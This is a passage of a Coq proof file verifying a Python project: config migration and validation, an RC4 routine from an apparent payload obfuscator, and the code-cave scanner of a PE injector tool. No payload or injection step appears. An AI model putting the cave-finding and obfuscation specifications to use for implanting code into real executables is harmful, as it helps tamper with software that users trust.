    (f' = f \/ f' = Unreadable (leftover disk)) /\
    (exists entries, log rt' = log rt ++ entries /\ entries <> []) /\
    py_getitem v "status" = Returned (PyStr "error") /\
    py_getitem v "message" = Returned (PyStr (exc_msg e)).
Proof.
  intros Hfail.
  assert (Hbody : exists f',
            save_config_body disk (MkConfigManager (PyDict d) f)
            = (MkConfigManager (PyDict d) f', Raised e) /\
            (f' = f \/ f' = Unreadable (leftover disk))).
  { unfold write_failure, to_save in Hfail.
    unfold save_config_body, write_settings. cbn [Config.config settings_file].
    destruct (makedirs disk) as [[]|?]; [|simplify_eq; by eexists; split; [|left]].
    destruct (open_w disk) as [[]|?]; [|simplify_eq; by eexists; split; [|left]].
    destruct (dump disk _) as [[]|?]; [done|].
    simplify_eq. eexists. split; [done|by right]. }
  destruct Hbody as (f' & Hbody & Hf').
  unfold save_config. rewrite Hbody.
  destruct (error_handler_never_raises "save_config" e rt)
    as (rt' & v & Hv & Hstatus & Hmsg).
  rewrite Hv. exists f', rt', v. split_and!; [done|done| |done|done].
  unfold error_handler in Hv.
  destruct (handle_error_logs e (Some "save_config") rt) as (entries & Hlog & Hne).
  destruct (handle_error e (Some "save_config") rt) as [rt1 v1].
  simplify_eq. by exists entries.
Qed.

(** C3 (as the code has it).  For a stored file whose [_version] is not
    ["1.0.0"], the migrated configuration has exactly the defaults' keys;
    a key holds the old file's value when the old file has it, the defaults
    have it and it does not start with an underscore, and the default value
    otherwise; every other key of the old file is dropped.  When it passes
    schema validation, [load_config] installs it and saves it stamped with
    the current version; a write that fails is reported by the error handler
    and leaves the configuration installed, the file being as it was or,
    once opened, cut short.  When it does not pass, the configuration falls
    back to the plain defaults, nothing is written, and the call yields a
    structured error. *)
Theorem load_config_migrates
    (old : list (string * PyVal)) (previous : PyVal) (disk : Disk)
    (rt : Runtime) :
  NoDup (dict_keys old) ->
  _validate_version (default (PyStr "0.0.0") (dict_get "_version" old)) = false ->
  let cm := MkConfigManager previous (Json (PyDict old)) in
  exists migrated,
    _migrate_config (PyDict old) = Returned (PyDict migrated) /\
    dict_keys migrated = dict_keys default_items /\
    (forall k,
       dict_get k migrated =
         if dict_mem k default_items && negb (String.prefix "_" k)
         then match dict_get k old with
              | Some v => Some v
              | None => dict_get k default_items
              end
         else dict_get k default_items) /\
    (validate _get_config_schema (PyDict migrated) = Returned true ->
       (write_failure disk (to_save migrated) = None ->
          load_config disk cm rt
          = (MkConfigManager (PyDict migrated) (saved migrated), rt,
             Returned PyNone)) /\
       (forall e,
          write_failure disk (to_save migrated) = Some e ->
          dispatched_by_class e = true ->
          exists f' rt',
            load_config disk cm rt
            = (MkConfigManager (PyDict migrated) f', rt', Returned PyNone) /\
            (f' = Json (PyDict old) \/ f' = Unreadable (leftover disk)) /\
            exists entries, log rt' = log rt ++ entries /\ entries <> [])) /\
    (validate _get_config_schema (PyDict migrated) <> Returned true ->
       exists rt' d,
         load_config disk cm rt
           = (MkConfigManager _get_default_config (Json (PyDict old)), rt',
              Returned d) /\
         py_getitem d "status" = Returned (PyStr "error")).
Proof.
  intros Hnd Hver cm.
  exists (fold_left migrate_step old default_items).
  destruct (migrate_fold_spec old default_items Hnd) as [Hkeys Hget].
  split; [done|]. split; [done|]. split; [done|].
  assert (Hread : read_config (settings_file cm)
                  = Returned (PyDict (fold_left migrate_step old default_items))).
  { unfold read_config, cm. cbn [settings_file].
    change (py_get (PyDict old) "_version" (PyStr "0.0.0"))
      with (Returned (default (PyStr "0.0.0") (dict_get "_version" old))).
    cbn [mbind outcome_bind]. by rewrite Hver. }
  split.
  - intros Hvalid. split.
    + intros Hwrite. unfold load_config, load_config_body.
      rewrite Hread, Hvalid. cbn [settings_file cm].
      by rewrite (save_config_written _ _ _ _ Hwrite).
    + intros e Hwrite _. unfold load_config, load_config_body.
      rewrite Hread, Hvalid. cbn [settings_file cm].
      destruct (save_config_failed _ _ (Json (PyDict old)) rt _ Hwrite)
        as (f' & rt' & v & -> & Hf' & Hlog & _).
      by exists f', rt'.
  - intros Hinvalid. unfold load_config, load_config_body. rewrite Hread.
    destruct (validate _ _) as [[|]|e] eqn:Hv; [done| |].
    + do 2 eexists. split; [reflexivity|done].
    + destruct (error_handler_never_raises "load_config" e rt)
        as (rt' & d & Hd & ? & ?).
      exists rt', d. by rewrite Hd.
Qed.

Lemma load_config_migrates_witness :
  load_config good_disk (MkConfigManager PyNone (Json (PyDict stale_file)))
    Runtime_init
  = (MkConfigManager (PyDict stale_migrated) (saved stale_migrated),
     Runtime_init, Returned PyNone) /\
  exists rt',
    load_config full_disk (MkConfigManager PyNone (Json (PyDict stale_file)))
      Runtime_init
    = (MkConfigManager (PyDict stale_migrated) (Unreadable empty_file_error),
       rt', Returned PyNone).
Proof.
  assert (N : NoDup (dict_keys stale_file)) by compute_done.
  split.
  - destruct (load_config_migrates stale_file PyNone good_disk Runtime_init
                N eq_refl)
      as (migrated & Hmig & _ & _ & Hok & _).
    injection Hmig as <-.
    apply Hok; reflexivity.
  - eexists. vm_compute. reflexivity.
Defined.

(** C3, as stated, fails on the code: the stale file's [ui] key is in the
    defaults, yet [load_config] does not produce the defaults with [ui]
    overridden; validation rejects that, the configuration is the plain
    defaults, and the file keeps its old version. *)
Lemma load_config_discards_invalid_migration :
  _migrate_config (PyDict broken_file)
    = Returned (PyDict (dict_set "ui" (PyStr "compact") default_items)) /\
  exists rt' d,
    load_config good_disk (MkConfigManager PyNone (Json (PyDict broken_file)))
      Runtime_init
      = (MkConfigManager _get_default_config (Json (PyDict broken_file)), rt',
         Returned d) /\
    py_getitem d "error_code" = Returned (PyStr "ERR_VALIDATION") /\
    dict_get "ui" default_items
      = Some (PyDict [
          ("theme", PyStr "dark");
          ("language", PyStr "zh_CN");
          ("window_size", PyDict [("width", PyInt 1200); ("height", PyInt 800)])]).
Proof.
  split; [reflexivity|].
  do 2 eexists. split; [vm_compute; reflexivity|]. by split.
Qed.

Lemma find_schema_is_lookup (value : PyVal) (vs : list (string * PyVal)) :
  (fix find_schema (vs' : list (string * PyVal)) : outcome unit :=
     match vs' with
     | [] => Returned tt
     | (k, sub) :: vs'' =>
         if String.eqb "schema" k then _validate_dict value sub
         else find_schema vs''
     end) vs
  = match dict_get "schema" vs with
    | Some sub => _validate_dict value sub
    | None => Returned tt
    end.
Proof.
  induction vs as [|[k sub] vs IH]; [done|].
  cbn [dict_get]. by destruct (String.eqb "schema" k).
Qed.

Lemma validate_dict_nil (config : PyVal) :
  _validate_dict config (PyDict []) = Returned tt.
Proof. done. Qed.

Lemma validate_dict_cons (config : PyVal) (key : string) (value_schema : PyVal)
    (rest : list (string * PyVal)) :
  _validate_dict config (PyDict ((key, value_schema) :: rest))
  = (present ← py_contains (PyStr key) config;
     (if negb present then check_missing key value_schema
      else value ← py_getitem config key; check_present key value_schema value);;
     _validate_dict config (PyDict rest)).
Proof.
  cbn [_validate_dict].
  destruct (py_contains (PyStr key) config) as [present|e]; [|done].
  cbn [mbind outcome_bind].
  destruct present; cbn [negb].
  - destruct (py_getitem config key) as [value|e]; [|done].
    cbn [mbind outcome_bind]. unfold check_present.
    destruct value_schema; try done.
    by rewrite find_schema_is_lookup.
  - done.
Qed.

(** Validation does not tell apart two values under [key] that the checks
    of every schema entry for [key] do not tell apart. *)
Lemma validate_dict_congruence (schema : list (string * PyVal))
    (d : list (string * PyVal)) (key : string) (v v' : PyVal) :
  (forall value_schema, (key, value_schema) ∈ schema ->
     check_present key value_schema v = check_present key value_schema v') ->
  _validate_dict (PyDict (dict_set key v d)) (PyDict schema)
  = _validate_dict (PyDict (dict_set key v' d)) (PyDict schema).
Proof.
  induction schema as [|[k vs] schema IH]; intros Hsame; [done|].
  rewrite !validate_dict_cons.
  rewrite IH by (intros; apply Hsame; by right).
  unfold py_contains, py_getitem, hashable, dict_mem.
  destruct (String.eqb_spec key k) as [<-|Hne].
  - rewrite !dict_get_set_eq. cbn [mbind outcome_bind negb].
    rewrite (Hsame vs) by (by left). done.
  - by rewrite !dict_get_set_ne.
Qed.

Lemma check_present_int (key : string) (b : bool) (n : Z) :
  check_present key (typed "int") (PyBool b)
  = check_present key (typed "int") (PyInt n).
Proof. done. Qed.

Lemma check_present_section (key : string) (entries : list (string * PyVal))
    (d d' : list (string * PyVal)) :
  _validate_dict (PyDict d) (PyDict entries)
    = _validate_dict (PyDict d') (PyDict entries) ->
  check_present key (section entries) (PyDict d)
  = check_present key (section entries) (PyDict d').
Proof. intros H. unfold check_present, section. cbn [dict_get String.eqb Ascii.eqb Bool.eqb]. simpl dict_get. by rewrite H. Qed.

Ltac schema_entry Hin :=
  repeat (apply elem_of_cons in Hin as [Hin|Hin]; [simplify_eq|]);
  try (by apply elem_of_nil in Hin).

Lemma set_path_leaf (k : string) (v : PyVal) (c c' : PyVal) :
  set_path [k] v c = Some c' ->
  exists d, c = PyDict d /\ c' = PyDict (dict_set k v d).
Proof. destruct c; simpl; intros H; simplify_eq. by eexists. Qed.

Lemma set_path_cons (k k' : string) (path : list string) (v : PyVal)
    (d : list (string * PyVal)) :
  set_path (k :: k' :: path) v (PyDict d)
  = (sub ← dict_get k d;
     sub' ← set_path (k' :: path) v sub;
     Some (PyDict (dict_set k sub' d))).
Proof. done. Qed.

Lemma set_path_step (k k' : string) (path : list string) (v : PyVal)
    (c c' : PyVal) :
  set_path (k :: k' :: path) v c = Some c' ->
  exists d sub sub',
    c = PyDict d /\ dict_get k d = Some sub /\
    set_path (k' :: path) v sub = Some sub' /\
    c' = PyDict (dict_set k sub' d).
Proof.
  destruct c; try (simpl; intros; simplify_eq; fail).
  rewrite set_path_cons.
  destruct (dict_get k d) as [sub|] eqn:Hsub;
    [|intros H; cbn in H; discriminate H].
  cbn [mbind option_bind].
  destruct (set_path (k' :: path) v sub) as [sub'|] eqn:Hsub';
    [|intros H; cbn in H; discriminate H].
  intros H. cbn in H. injection H as <-. by exists d, sub, sub'.
Qed.

Lemma validate_dict_int_key (path : list string) (c cb ci : PyVal) (b : bool)
    (n : Z) :
  path ∈ int_keys ->
  set_path path (PyBool b) c = Some cb ->
  set_path path (PyInt n) c = Some ci ->
  _validate_dict cb _get_config_schema = _validate_dict ci _get_config_schema.
Proof.
  intros Hpath Hb Hi. unfold int_keys in Hpath.
  repeat (apply elem_of_cons in Hpath as [->|Hpath]);
    [| | |by apply elem_of_nil in Hpath].
  - apply set_path_step in Hb as (d & ui & ui' & -> & Hui & Hb & ->).
    apply set_path_step in Hi as (d' & ui0 & ui0' & ? & Hui0 & Hi & ->).
    simplify_eq.
    apply set_path_step in Hb as (u & ws & ws' & -> & Hws & Hb & ->).
    apply set_path_step in Hi as (u' & ws0 & ws0' & ? & Hws0 & Hi & ->).
    simplify_eq.
    apply set_path_leaf in Hb as (w & -> & ->).
    apply set_path_leaf in Hi as (w' & ? & ->). simplify_eq.
    apply validate_dict_congruence. intros vs Hin. schema_entry Hin.
    apply check_present_section.
    apply validate_dict_congruence. intros vs Hin. schema_entry Hin.
    apply check_present_section.
    apply validate_dict_congruence. intros vs Hin. schema_entry Hin.
    apply check_present_int.
  - apply set_path_step in Hb as (d & ui & ui' & -> & Hui & Hb & ->).
    apply set_path_step in Hi as (d' & ui0 & ui0' & ? & Hui0 & Hi & ->).
    simplify_eq.
    apply set_path_step in Hb as (u & ws & ws' & -> & Hws & Hb & ->).
    apply set_path_step in Hi as (u' & ws0 & ws0' & ? & Hws0 & Hi & ->).
    simplify_eq.
    apply set_path_leaf in Hb as (w & -> & ->).
    apply set_path_leaf in Hi as (w' & ? & ->). simplify_eq.
    apply validate_dict_congruence. intros vs Hin. schema_entry Hin.
    apply check_present_section.
    apply validate_dict_congruence. intros vs Hin. schema_entry Hin.
    apply check_present_section.
    apply validate_dict_congruence. intros vs Hin. schema_entry Hin.
    apply check_present_int.
  - apply set_path_step in Hb as (d & pr & pr' & -> & Hpr & Hb & ->).
    apply set_path_step in Hi as (d' & pr0 & pr0' & ? & Hpr0 & Hi & ->).
    simplify_eq.
    apply set_path_leaf in Hb as (w & -> & ->).
    apply set_path_leaf in Hi as (w' & ? & ->). simplify_eq.
    apply validate_dict_congruence. intros vs Hin. schema_entry Hin.
    apply check_present_section.
    apply validate_dict_congruence. intros vs Hin. schema_entry Hin.
    apply check_present_int.
Qed.

(** C9 (as the code has it): a boolean passes the ["int"] type check of
    [ConfigValidator] and of [ToolBase], so the recursive validation never
    rejects a boolean where the schema requires an int: under each int-typed
    key of the configuration schema, a configuration holding a boolean
    validates exactly as it does with an int there, and the default
    configuration with a boolean under such a key is accepted ([validate]
    returns true). *)
Theorem validator_accepts_bool_for_int :
  (forall (b : bool) (key : string),
     Config._validate_type (PyBool b) (PyStr "int") key = Returned tt /\
     ToolBase._validate_type (PyBool b) (PyStr "int") key = Returned tt) /\
  (forall path c cb ci (b : bool) (n : Z),
     path ∈ int_keys ->
     set_path path (PyBool b) c = Some cb ->
     set_path path (PyInt n) c = Some ci ->
     validate _get_config_schema cb = validate _get_config_schema ci /\
     (validate _get_config_schema ci = Returned true ->
      validate _get_config_schema cb = Returned true)) /\
  (forall path (b : bool),
     path ∈ int_keys ->
     exists c,
       set_path path (PyBool b) _get_default_config = Some c /\
       validate _get_config_schema c = Returned true).
Proof.
  split; [|split].
  - by intros b key.
  - intros path c cb ci b n Hpath Hb Hi.
    assert (Hsame : validate _get_config_schema cb
                    = validate _get_config_schema ci).
    { unfold validate. by rewrite (validate_dict_int_key path c cb ci b n). }
    split; [done|]. by rewrite Hsame.
  - intros path b Hpath. unfold int_keys in Hpath.
    repeat (apply elem_of_cons in Hpath as [->|Hpath]);
      [| | |by apply elem_of_nil in Hpath];
      (eexists; split; [reflexivity|]); by destruct b.
Qed.

(** C9, as stated, fails on the code: a configuration that holds a boolean
    under the int-typed key [ui.window_size.width] is not thereby accepted.
    With a theme outside the listed values [validate] returns false, and
    names the theme, not the width. *)
Lemma bool_for_int_is_not_enough :
  (exists ui window_size,
     py_getitem bool_width_blue_theme "ui" = Returned ui /\
     py_getitem ui "window_size" = Returned window_size /\
     py_getitem window_size "width" = Returned (PyBool true)) /\
  validate _get_config_schema bool_width_blue_theme = Returned false /\
  _validate_dict bool_width_blue_theme _get_config_schema
  = Raised (raise_exc ValidationError
              "配置项 theme 的值必须是以下之一: ['dark', 'light']").
Proof.
  split; [do 2 eexists; by split_and!|]. split; reflexivity.
Qed.

(** A configuration with a boolean window width is accepted; one with a
    string there is not. *)
Example bool_width_accepted :
  validate _get_config_schema
    (PyDict (dict_set "ui"
       (PyDict [("theme", PyStr "dark"); ("language", PyStr "zh_CN");
                ("window_size",
                 PyDict [("width", PyBool true); ("height", PyInt 800)])])
       default_items)) = Returned true /\
  validate _get_config_schema
    (PyDict (dict_set "ui"
       (PyDict [("theme", PyStr "dark"); ("language", PyStr "zh_CN");
                ("window_size",
                 PyDict [("width", PyStr "wide"); ("height", PyInt 800)])])
       default_items)) = Returned false.
Proof. split; reflexivity. Qed.

(** ** RC4 against the reference (tools/obfuscator.py) *)

Lemma holds_getitem (sbox : list Z) (f : perm) (i : Z) :
  holds sbox f -> 0 <= i < 256 -> list_getitem sbox i = Returned (f i).
Proof.
  intros [Hlen Hf] Hi. rewrite list_getitem_ok by (unfold len; lia).
  f_equal. apply list_lookup_total_correct. by apply Hf.
Qed.

Lemma holds_setitem (sbox : list Z) (i x : Z) :
  length sbox = 256%nat -> 0 <= i < 256 ->
  list_setitem sbox i x = Returned (<[Z.to_nat i:=x]> sbox).
Proof.
  intros Hlen Hi. unfold list_setitem, index_of, len. rewrite Hlen.
  change (Z.of_nat 256) with 256.
  destruct (Z.ltb_spec i 0); [lia|].
  replace ((0 <=? i) && (i <? 256)) with true
    by (symmetry; apply andb_true_iff; lia).
  done.
Qed.

Lemma holds_identity : holds (seqZ 0 256) (λ x, x).
Proof.
  split; [by rewrite length_seqZ|].
  intros i Hi. split; [|done].
  rewrite lookup_seqZ_lt by lia. f_equal. lia.
Qed.

Lemma swap_holds (sbox : list Z) (f : perm) (i j : Z) :
  holds sbox f -> 0 <= i < 256 -> 0 <= j < 256 ->
  exists sbox', swap sbox i j = Returned sbox' /\ holds sbox' (exchange f i j).
Proof.
  intros H Hi Hj. pose proof H as [Hlen Hf].
  exists (<[Z.to_nat j:=f i]> (<[Z.to_nat i:=f j]> sbox)). split.
  - unfold swap. rewrite !(holds_getitem sbox f) by done.
    cbn [mbind outcome_bind]. rewrite holds_setitem by done.
    cbn [mbind outcome_bind]. apply holds_setitem; [|done].
    by rewrite length_insert.
  - split; [by rewrite !length_insert|].
    intros x Hx. unfold exchange.
    destruct (Z.eqb_spec x i) as [->|Hxi]; [|destruct (Z.eqb_spec x j) as [->|Hxj]].
    + split; [|by apply Hf].
      destruct (Z.eq_dec i j) as [->|Hij].
      * rewrite list_lookup_insert_eq by (rewrite length_insert; lia). done.
      * rewrite list_lookup_insert_ne by lia.
        rewrite list_lookup_insert_eq by lia. done.
    + split; [|by apply Hf].
      rewrite list_lookup_insert_eq by (rewrite length_insert; lia). done.
    + rewrite !list_lookup_insert_ne by lia. by apply Hf.
Qed.

Lemma key_at_getitem (key : list Z) (i : Z) :
  (0 < length key)%nat -> 0 <= i ->
  (m ← py_mod i (len key); list_getitem key m) = Returned (key_at key i).
Proof.
  intros Hk Hi. unfold py_mod, len.
  destruct (Z.eqb_spec (Z.of_nat (length key)) 0); [lia|].
  cbn [mbind outcome_bind].
  pose proof (Z.mod_pos_bound i (Z.of_nat (length key)) ltac:(lia)).
  rewrite list_getitem_ok by (unfold len; lia).
  f_equal. unfold key_at.
  destruct (lookup_lt_is_Some_2 key
              (Z.to_nat (i `mod` Z.of_nat (length key)))) as [x Hx]; [lia|].
  rewrite (list_lookup_total_correct _ _ _ Hx).
  symmetry. by apply nth_lookup_Some.
Qed.

Lemma ksa_step_holds (key sbox : list Z) (f : perm) (i j : Z) :
  (0 < length key)%nat -> holds sbox f -> 0 <= i < 256 ->
  let j' := (j + f i + key_at key i) mod 256 in
  exists sbox',
    ksa_step key (sbox, j) i = Returned (sbox', j') /\
    holds sbox' (exchange f i j').
Proof.
  intros Hk H Hi j'.
  assert (Hj' : 0 <= j' < 256) by (apply Z.mod_pos_bound; lia).
  destruct (swap_holds sbox f i j' H Hi Hj') as (sbox' & Hswap & H').
  exists sbox'. split; [|done].
  unfold ksa_step. rewrite (holds_getitem sbox f) by done.
  cbn [mbind outcome_bind].
  pose proof (key_at_getitem key i Hk ltac:(lia)) as Hkey.
  destruct (py_mod i (len key)) as [m|e]; [|done].
  cbn [mbind outcome_bind] in Hkey |- *. rewrite Hkey.
  cbn [mbind outcome_bind]. fold j'. rewrite Hswap. done.
Qed.

Lemma foldM_app {S A} (body : S -> A -> outcome S) (l1 l2 : list A) (s : S) :
  foldM body (l1 ++ l2) s = (s' ← foldM body l1 s; foldM body l2 s').
Proof.
  revert s. induction l1 as [|x l1 IH]; intros s; [done|].
  cbn [foldM app]. destruct (body s x) as [s'|e]; [|done].
  cbn [mbind outcome_bind]. apply IH.
Qed.

Lemma seqZ_snoc (n : nat) : seqZ 0 (Z.of_nat (S n)) = seqZ 0 (Z.of_nat n) ++ [Z.of_nat n].
Proof.
  replace (Z.of_nat (S n)) with (Z.of_nat n + 1) by lia.
  rewrite seqZ_app by lia. f_equal.
Qed.

Lemma ksa_rounds (key : list Z) (n : nat) :
  (0 < length key)%nat -> (n <= 256)%nat ->
  exists sbox,
    foldM (ksa_step key) (seqZ 0 (Z.of_nat n)) (seqZ 0 256, 0)
      = Returned (sbox, snd (schedule key n)) /\
    holds sbox (fst (schedule key n)).
Proof.
  intros Hk. induction n as [|n IH]; intros Hn.
  - exists (seqZ 0 256). split; [done|apply holds_identity].
  - destruct IH as (sbox & Hfold & H); [lia|].
    rewrite seqZ_snoc, foldM_app, Hfold. cbn [mbind outcome_bind foldM].
    cbn [schedule]. destruct (schedule key n) as [f j] eqn:E.
    cbn [fst snd] in *.
    destruct (ksa_step_holds key sbox f (Z.of_nat n) j Hk H ltac:(lia))
      as (sbox' & Hstep & H').
    exists sbox'. rewrite Hstep. done.
Qed.

Lemma generator_state_ok (sbox0 : list Z) (f0 : perm) (n : nat) :
  holds sbox0 f0 ->
  let '(f, i, j) := generator f0 n in 0 <= i < 256 /\ 0 <= j < 256.
Proof.
  intros H. induction n as [|n IH]; [cbn; lia|].
  cbn [generator]. destruct (generator f0 n) as [[f i] j].
  split; apply Z.mod_pos_bound; lia.
Qed.

Lemma prga_rounds (sbox0 : list Z) (f0 : perm) (data : list Z) :
  holds sbox0 f0 -> Forall byte data ->
  let '(f, i, j) := generator f0 (length data) in
  exists sbox,
    foldM prga_step data (sbox0, 0, 0, [])
      = Returned (sbox, i, j,
                  zip_with Z.lxor data (map (stream_byte f0) (seq 0 (length data)))) /\
    holds sbox f /\
    Forall byte (zip_with Z.lxor data (map (stream_byte f0) (seq 0 (length data)))).
Proof.
  intros H0. induction data as [|b data IH] using rev_ind; intros Hdata.
  - cbn. exists sbox0. split; [done|]. split; [done|constructor].
  - apply Forall_app in Hdata as [Hdata Hb]. apply Forall_inv in Hb.
    specialize (IH Hdata).
    rewrite length_app. cbn [length]. rewrite Nat.add_1_r.
    pose proof (generator_state_ok sbox0 f0 (length data) H0) as Hij.
    cbn [generator]. revert IH Hij.
    destruct (generator f0 (length data)) as [[f i] j] eqn:E.
    intros (sbox & Hfold & H & Hout) [Hi Hj].
    set (i' := (i + 1) mod 256). set (j' := (j + f i') mod 256).
    assert (Hi' : 0 <= i' < 256) by (apply Z.mod_pos_bound; lia).
    assert (Hj' : 0 <= j' < 256) by (apply Z.mod_pos_bound; lia).
    destruct (swap_holds sbox f i' j' H Hi' Hj') as (sbox' & Hswap & H').
    set (g := exchange f i' j') in *.
    set (k := g ((g i' + g j') mod 256)).
    assert (Hk : byte k).
    { apply H'. apply Z.mod_pos_bound. lia. }
    assert (Hks : stream_byte f0 (length data) = k).
    { unfold stream_byte. cbn [generator]. rewrite E. done. }
    assert (Hzip :
      zip_with Z.lxor (data ++ [b])
        (map (stream_byte f0) (seq 0 (S (length data))))
      = zip_with Z.lxor data (map (stream_byte f0) (seq 0 (length data)))
        ++ [Z.lxor b k]).
    { rewrite seq_S, map_app. cbn [map]. rewrite Nat.add_0_l.
      rewrite zip_with_app by (by rewrite length_map, length_seq).
      by rewrite Hks. }
    exists sbox'. rewrite Hzip. split; [|split; [done|]].
    + rewrite foldM_app, Hfold. cbn [mbind outcome_bind foldM].
      unfold prga_step. fold i'.
      rewrite (holds_getitem sbox f i') by done. cbn [mbind outcome_bind].
      fold j'. rewrite Hswap. cbn [mbind outcome_bind].
      rewrite !(holds_getitem sbox' g) by done. cbn [mbind outcome_bind].
      rewrite (holds_getitem sbox' g)
        by (done || (apply Z.mod_pos_bound; lia)).
      cbn [mbind outcome_bind]. fold k.
      unfold bytearray_append. rewrite is_byte_true by (by apply lxor_byte).
      done.
    + apply Forall_app. split; [done|].
      apply Forall_singleton. by apply lxor_byte.
Qed.

Lemma stream_byte_keystream (key : list Z) (n : nat) :
  map (stream_byte (fst (schedule key 256))) (seq 0 n) = keystream key n.
Proof. done. Qed.

(** C4: for a 16-byte key and any plaintext, [_rc4_encrypt] returns the
    standard RC4 ciphertext: it equals the reference cipher, whose byte [n]
    is plaintext byte [n] XORed with byte [n] of the reference keystream
    for that key. *)
Theorem rc4_encrypt_is_standard_rc4 (key data : list Z) (rt : Runtime) :
  length key = 16%nat -> Forall byte key -> Forall byte data ->
  _rc4_encrypt key data rt = (rt, Returned (rc4 key data)) /\
  length (rc4 key data) = length data /\
  forall (n : nat) b, data !! n = Some b ->
    rc4 key data !! n = Some (Z.lxor b (keystream_byte key n)).
Proof.
  intros Hlen Hkey Hdata.
  assert (Hk : (0 < length key)%nat) by lia.
  split; [|split].
  - unfold _rc4_encrypt, rc4_body.
    destruct (ksa_rounds key 256 Hk ltac:(lia)) as (sbox & Hksa & H).
    change (Z.of_nat 256) with 256 in Hksa. rewrite Hksa.
    cbn [mbind outcome_bind].
    pose proof (prga_rounds sbox (fst (schedule key 256)) data H Hdata) as Hprga.
    destruct (generator (fst (schedule key 256)) (length data)) as [[f i] j].
    destruct Hprga as (sbox' & Hfold & _ & Hout).
    rewrite Hfold. cbn [mbind outcome_bind].
    rewrite stream_byte_keystream in Hout |- *.
    fold (rc4 key data) in Hout |- *. by rewrite bytes_of_ok.
  - unfold rc4, keystream.
    rewrite length_zip_with, length_map, length_seq. lia.
  - intros n b Hn. unfold rc4, keystream.
    rewrite lookup_zip_with, Hn. cbn [mbind option_bind].
    rewrite list_lookup_fmap.
    assert (n < length data)%nat by (by eapply lookup_lt_Some).
    rewrite lookup_seq_lt by done. done.
Qed.

Lemma rc4_encrypt_is_standard_rc4_witness :
  _rc4_encrypt [1; 2; 3; 4; 5; 6; 7; 8; 9; 10; 11; 12; 13; 14; 15; 16]
               [80; 108; 97; 105; 110] Runtime_init
  = (Runtime_init,
     Returned (rc4 [1; 2; 3; 4; 5; 6; 7; 8; 9; 10; 11; 12; 13; 14; 15; 16]
                   [80; 108; 97; 105; 110])).
Proof.
  apply (rc4_encrypt_is_standard_rc4
           [1; 2; 3; 4; 5; 6; 7; 8; 9; 10; 11; 12; 13; 14; 15; 16]
           [80; 108; 97; 105; 110] Runtime_init).
  - reflexivity.
  - repeat constructor; unfold byte; lia.
  - repeat constructor; unfold byte; lia.
Defined.

(** The reference on the published test vectors of RC4: key ["Key"] gives
    the keystream [EB 9F 77 81 B7 34 CA 72 A7 19] and turns ["Plaintext"] into
    [BB F3 16 E8 D9 40 AF 0A D3]; key ["Wiki"] turns ["pedia"] into
    [10 21 BF 04 20]. *)
Example rc4_reference_test_vectors :
  keystream [75; 101; 121] 10
    = [0xEB; 0x9F; 0x77; 0x81; 0xB7; 0x34; 0xCA; 0x72; 0xA7; 0x19] /\
  rc4 [75; 101; 121] [80; 108; 97; 105; 110; 116; 101; 120; 116]
    = [0xBB; 0xF3; 0x16; 0xE8; 0xD9; 0x40; 0xAF; 0x0A; 0xD3] /\
  rc4 [87; 105; 107; 105] [112; 101; 100; 105; 97]
    = [0x10; 0x21; 0xBF; 0x04; 0x20].
Proof. repeat split; vm_compute; reflexivity. Qed.

(** ** Code caves (tools/pe_injector.py) *)

Lemma cave_run_spec (fuel : nat) (data : list Z) (size start pos : Z) :
  start <= pos <= len data ->
  len data - pos < Z.of_nat fuel ->
  pos - start <= size ->
  (forall q, start <= q < pos -> is_cave_byte (data !!! Z.to_nat q) = true) ->
  exists pos',
    cave_run fuel data size start pos = Done pos' /\
    pos <= pos' <= len data /\
    pos' - start <= size /\
    (forall q, start <= q < pos' -> is_cave_byte (data !!! Z.to_nat q) = true) /\
    (pos' - start < size ->
       pos' = len data \/ is_cave_byte (data !!! Z.to_nat pos') = false).
Proof.
  revert pos. induction fuel as [|fuel IH]; intros pos Hpos Hfuel Hsize Hrun;
    [lia|].
  cbn [cave_run].
  destruct (Z.ltb_spec pos (len data)) as [Hlt|Hge]; cbn [andb].
  - destruct (is_cave_byte (data !!! Z.to_nat pos)) eqn:Hbyte; cbn [andb].
    + destruct (Z.ltb_spec (pos - start) size) as [Hroom|Hfull].
      * destruct (IH (pos + 1)) as (pos' & Hrun' & ? & ? & ? & ?);
          [lia|lia|lia| |].
        { intros q Hq. destruct (Z.eq_dec q pos) as [->|]; [done|].
          apply Hrun. lia. }
        exists pos'. repeat split; (done || lia).
      * exists pos. repeat split; (done || lia).
    + exists pos. repeat split; try (done || lia). intros _. by right.
  - exists pos. repeat split; (done || lia).
Qed.

Lemma scan_section_spec (fuel : nat) (section : SectionHeader) (size pos : Z) :
  let data := get_data section in
  0 < size -> 0 <= pos ->
  Z.max 0 (len data - pos) < Z.of_nat fuel ->
  (forall p, p < pos -> ~ filler_run data size p) ->
  exists r,
    scan_section fuel section size pos = Done r /\
    match r with
    | Some (va, n) =>
        exists p,
          va = VirtualAddress section + p /\ n = size /\
          filler_run data size p /\
          forall p', p' < p -> ~ filler_run data size p'
    | None => forall p, ~ filler_run data size p
    end.
Proof.
  intros data Hsize. revert pos.
  induction fuel as [|fuel IH]; intros pos Hpos Hfuel Hnone.
  - lia.
  - cbn [scan_section]. fold data.
    destruct (Z.ltb_spec pos (len data)) as [Hlt|Hge].
    + destruct (is_cave_byte (data !!! Z.to_nat pos)) eqn:Hbyte.
      * destruct (cave_run_spec (S (length data)) data size pos pos)
          as (pos' & Hrun & Hpos' & Hle & Hfill & Hstop);
          [lia|unfold len; lia|lia|intros; lia|].
        rewrite Hrun.
        destruct (Z.geb_spec (pos' - pos) size) as [Hfound|Hshort].
        -- exists (Some (VirtualAddress section + pos, pos' - pos)).
           split; [done|]. exists pos. repeat split; try (done || lia).
           intros q Hq. apply Hfill. lia.
        -- destruct (IH (pos' + 1)) as (r & Hr & Hspec); [lia|lia| |].
           { intros p Hp (Hp0 & Hend & Hall).
             destruct (Z.lt_ge_cases p pos) as [|Hpp];
               [by apply (Hnone p); [|split]|].
             destruct (Hstop ltac:(lia)) as [Hatend|Hbad]; [lia|].
             rewrite Hall in Hbad by lia. done. }
           exists r. done.
      * destruct (IH (pos + 1)) as (r & Hr & Hspec); [lia|lia| |].
        { intros p Hp (Hp0 & Hend & Hall).
          destruct (Z.eq_dec p pos) as [->|];
            [|by apply (Hnone p); [lia|split]].
          rewrite Hall in Hbyte by lia. done. }
        exists r. done.
    + exists None. split; [done|].
      intros p (Hp0 & Hend & Hall).
      destruct (Z.lt_ge_cases p pos); [by apply (Hnone p); [|split]|lia].
Qed.

Lemma scan_sections_spec (secs : list SectionHeader) (size : Z) :
  0 < size ->
  exists r, scan_sections secs size = Done r /\ first_cave secs size r.
Proof.
  intros Hsize. induction secs as [|section secs IH].
